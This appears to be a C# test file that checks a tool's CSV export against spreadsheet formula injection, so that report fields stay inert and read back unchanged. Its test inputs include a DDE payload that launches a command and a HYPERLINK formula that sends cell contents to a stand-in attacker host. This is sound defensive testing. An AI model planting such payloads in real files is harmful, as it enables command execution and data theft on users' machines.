using System.Globalization;
using System.Text;
using System.Text.Json;
using CsvHelper;
using CsvHelper.Configuration;
using Whence.Cli.Tables;

namespace Whence.Intake.Tests.Attacks;

/// <summary>The table of a trace, opened in a spreadsheet: no word of a report is calculated, and every word can be had back.</summary>
public sealed class SpreadsheetTests : IDisposable
{
    private const string Formulas = "=+-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20";

    private readonly TempFolder _folder = new();

    public void Dispose() => _folder.Dispose();

    // A spreadsheet reads blanks and quotation marks away before it looks for a formula.
    private static bool IsCalculated(string cell) => cell.Length > 0 && (Formulas.Contains(cell[0]) || (cell.Trim(' ', '"', '\u00A0') is { Length: > 0 } bare && Formulas.Contains(bare[0])));

    private static List<string[]> Rows(string csv)
    {
        using CsvReader reader = new(new StringReader(csv), new CsvConfiguration(CultureInfo.InvariantCulture) { HasHeaderRecord = false, Mode = CsvMode.RFC4180, BadDataFound = null });
        List<string[]> rows = [];
        while (reader.Read()) rows.Add([.. Enumerable.Range(0, reader.Parser.Count).Select(i => reader.GetField(i)!)]);
        return rows;
    }

    [Theory]
    [InlineData("=cmd|' /C calc'!A0")]
    [InlineData("=HYPERLINK(\"https://evil.example/?\"&A1,\"Gates\")")]
    [InlineData("+1+1")]
    [InlineData("-2+3")]
    [InlineData("@SUM(1)")]
    [InlineData("\t=1+1")]
    [InlineData("\r\n=1+1")]
    [InlineData("  =1+1")]
    [InlineData("\uFF1D1+1")]
    [InlineData("Gates; =1+1")]
    [InlineData("Gates;\"=1+1")]
    [InlineData("Gates|=1+1")]
    [InlineData("Gates\t=1+1\n-1")]
    [InlineData("'=1+1")]
    [InlineData("''")]
    [InlineData("Nine days - shut, and 1,500 - 40 % = 900")]
    [InlineData("")]
    public void A_formula_is_no_formula_in_any_cell_and_comes_back_as_it_was(string words)
    {
        string cell = CsvCell.Write(words);
        Rows(cell).ShouldHaveSingleItem().ShouldHaveSingleItem().ShouldSatisfyAllConditions(
            read => CsvCell.Read(read).ShouldBe(words),
            read => IsCalculated(read.Length > 0 && read[0] == '"' ? "" : read).ShouldBeFalse(read));
        // Where the spreadsheet splits at other signs than we do.
        foreach (char separator in ";|\t")
            foreach (string part in $"\"a\",{cell},\"b\"".Split([separator, '\r', '\n'])) IsCalculated(part).ShouldBeFalse(part);
    }

    [Fact]
    public void Any_words_come_back_as_they_were()
    {
        const string Signs = "=+-@'\"; ,|\t\r\nab\u00A0\uFF1D\uD83D";
        Random random = new(20310225);
        for (int i = 0; i < 20_000; i++)
        {
            string words = string.Concat(Enumerable.Range(0, random.Next(12)).Select(_ => Signs[random.Next(Signs.Length)]));
            string cell = CsvCell.Write(words), inner = cell[1..^1].Replace("\"\"", "\"", StringComparison.Ordinal);
            CsvCell.Read(inner).ShouldBe(words);
            foreach (string part in cell.Split(';', '|', '\t', '\r', '\n')) IsCalculated(part).ShouldBeFalse(cell);
        }
    }

    [Fact]
    public async Task Formulas_in_every_field_of_a_report_are_no_formulas_in_the_table_of_a_trace()
    {
        const string Attack = "=cmd|' /C calc'!A0";
        string pile = _folder.Write("pile.jsonl", string.Concat(Enumerable.Range(0, 3).Select(i => JsonSerializer.Serialize(new
        {
            id = Attack + i, outlet = Attack, title = Attack, url = Attack, published = "2031-02-25",
            text = "=1+1 kept the gates of the Halvard Dam shut for nine days, -Ana Prell told @Radio Meridian on Monday. +Engineers said that the flood covered 1,500 hectares.",
        }) + "\n")));
        string table = _folder.At("trace.csv");
        Ended ended = await WhenceProcess.RunAsync("trace", "--jsonl", pile, "--output", table);
        ended.Code.ShouldBe(0, ended.Error);
        byte[] bytes = await File.ReadAllBytesAsync(table, TestContext.Current.CancellationToken);
        bytes.AsSpan(0, 3).SequenceEqual(Encoding.UTF8.Preamble).ShouldBeTrue("spreadsheets need the mark to read UTF-8");
        List<string[]> rows = Rows(Encoding.UTF8.GetString(bytes.AsSpan(3)));
        rows[0].ShouldBe(TraceTable.Columns);
        rows.Count.ShouldBeGreaterThan(3);
        foreach (string cell in rows.SelectMany(row => row)) IsCalculated(cell).ShouldBeFalse(cell);
        foreach (string[] row in rows.Skip(1))
        {
            row.Length.ShouldBe(TraceTable.Columns.Length);
            CsvCell.Read(row[6]).ShouldStartWith(Attack);
            CsvCell.Read(row[7]).ShouldBe(Attack);
            row[^2].ShouldNotBeEmpty();
            row[^1].ShouldNotBeEmpty();
        }
        string again = _folder.At("again.csv");
        await WhenceProcess.RunAsync("trace", "--jsonl", pile, "--output", again);
        (await File.ReadAllBytesAsync(again, TestContext.Current.CancellationToken)).ShouldBe(bytes);
    }
}
